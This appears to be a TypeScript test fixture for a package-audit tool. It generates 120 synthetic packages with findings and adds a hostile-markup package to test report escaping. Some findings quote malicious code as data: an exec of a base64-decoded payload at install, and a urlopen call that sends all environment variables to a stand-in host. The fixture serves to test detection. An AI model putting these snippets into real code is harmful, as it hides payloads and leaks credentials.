import type { Decision } from '../../src/core/decision.js';
import type { Run } from '../../src/core/run.js';
import { untrusted } from '../../src/core/untrusted.js';
import { advisory, decision, finding, gap, run, type DecisionWords } from './build.js';
import { HOSTILE_MARKUP } from './hostile-markup.js';

const PLANTS = ['acorn', 'aster', 'bramble', 'cedar', 'clover', 'dahlia', 'elder', 'fern', 'ginkgo', 'hazel', 'iris', 'juniper', 'larch', 'maple', 'nettle', 'olive', 'petal', 'quince', 'rowan', 'sorrel'];
const PARTS = ['app', 'web', 'http', 'core', 'types', 'io'];

/** Numbers from 0 to 1 that are the same in each run (Lehmer's generator with the constants of MINSTD). */
function repeatable(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 48_271) % 2_147_483_647;
    return state / 2_147_483_647;
  };
}

const vulnerable: DecisionWords = {
  version: '2.3.0', verdict: 'blocked', score: 0.9,
  reasons: ['CVE-2025-10001: request smuggling by a crafted header; fixed in 2.4.1'],
  findings: [finding({ rule: 'known-vulnerability', message: 'CVE-2025-10001: request smuggling by a crafted header; fixed in 2.4.1', advice: 'Update to 2.4.1 or newer.', why: 'A database of advisories names this version', advisory: advisory('CVE-2025-10001', { severity: 'critical', cvss: 9.8 }) })],
};
const dropper: DecisionWords = {
  version: '0.0.7', verdict: 'blocked', score: 0.9,
  reasons: ['exec runs what base64.b64decode decoded, at install'],
  findings: [
    finding({ file: 'setup.py', line: 14, snippet: 'exec(base64.b64decode(PAYLOAD))', message: 'exec runs what base64.b64decode decoded, at install', why: 'Packing a payload as base64 and handing it straight to exec() hides it from readers and from text search', trace: [{ what: 'base64.b64decode decodes PAYLOAD', line: 9 }, { what: 'exec runs the result', line: 14 }] }),
    finding({ rule: 'credentials-to-network', severity: 'high', file: 'petal/__init__.py', line: 203, snippet: 'urlopen("https://hooks.invalid/c", data=json.dumps(dict(os.environ)).encode())', message: 'sends the environment to hooks.invalid', why: 'Environment variables hold passwords and access keys' }),
  ],
};
const warnings: readonly DecisionWords[] = [
  { verdict: 'warned', score: 0.5, reasons: ['project is 2 days old'], released: { daysAgo: 2, firstDaysAgo: 2 }, findings: [finding({ rule: 'metadata-young-project', severity: 'medium', message: 'project is 2 days old', why: 'Most malicious projects are found within a week' })] },
  { verdict: 'warned', score: 0.05, reasons: ['could not read clover/big.py: larger than 10 MB'], gaps: [gap('latent', 'clover/big.py', 'larger than 10 MB')] },
  { verdict: 'warned', score: 0.5, reasons: ['GHSA-aaaa-bbbb-cccc: slow parser'], findings: [finding({ rule: 'known-vulnerability', severity: 'medium', message: 'GHSA-aaaa-bbbb-cccc: slow parser', advisory: advisory('GHSA-aaaa-bbbb-cccc', { severity: 'medium', aliases: [], fixedIn: null }) })] },
  { verdict: 'warned', score: 0.5, reasons: ['runs nettle/_native.bin, which came with the package'], findings: [finding({ rule: 'starts-shipped-program', severity: 'medium', file: 'nettle/launch.py', line: 31, snippet: 'subprocess.run([here / "_native.bin", *args])', message: 'runs nettle/_native.bin, which came with the package' })] },
];

const SPECIAL: Readonly<Record<number, DecisionWords>> = { 17: vulnerable, 58: dropper, 9: warnings[0]!, 30: warnings[1]!, 44: warnings[2]!, 77: warnings[3]! };

/** Each package needs some of the later ones, mostly near ones: a few levels deep, as environments are. */
function needs(index: number, names: readonly string[], random: () => number): readonly string[] {
  const level = Math.floor(index / PLANTS.length);
  if (level === PARTS.length - 1) return [];
  const count = Math.floor(random() * 3.2) + (level === 0 ? 1 : 0);
  return Array.from({ length: count }, () => names[Math.min(names.length - 1, (level + 1) * PLANTS.length + Math.floor(random() ** 1.6 * PLANTS.length * (random() < 0.8 ? 1 : 2)))] ?? '').filter((name) => name !== '');
}

function packages(): readonly Decision[] {
  const names = PARTS.flatMap((part) => PLANTS.map((plant) => `${plant}-${part}`));
  const random = repeatable(20_260_115);
  return names.map((name, index) => {
    const version = `${1 + Math.floor(random() * 4)}.${Math.floor(random() * 12)}.${Math.floor(random() * 9)}`;
    const daysAgo = 5 + Math.floor(random() ** 2 * 1_900);
    const asked = index < PLANTS.length ? { askedFor: { file: 'requirements.txt', line: index + 1 } } : {};
    const ability = random() < 0.4 ? [finding({ rule: 'uses-network', severity: 'info', file: `${name}/client.py`, line: 3, message: 'uses the network: http.client' })] : [];
    return decision(name, { version, ...asked, requires: needs(index, names, random), released: { daysAgo, firstDaysAgo: daysAgo + 700 }, findings: ability, ...SPECIAL[index] });
  });
}

const hostile = decision('hostile', { version: HOSTILE_MARKUP, verdict: 'blocked', score: 0.9, reasons: [HOSTILE_MARKUP], requires: ['petal-core'], findings: [finding({ file: HOSTILE_MARKUP, line: 1, snippet: HOSTILE_MARKUP, message: HOSTILE_MARKUP })] });

/** An environment of 120 packages, two of them blocked and four with warnings. */
export const largeRun: Run = run({ command: 'audit', decisions: packages(), notices: [{ level: 'warning', text: untrusted('advisory data is 9 days old') }] });

/** The same with one package more, which tries to get out of the page. */
export const hostileLargeRun: Run = { ...largeRun, decisions: [...largeRun.decisions, hostile] };
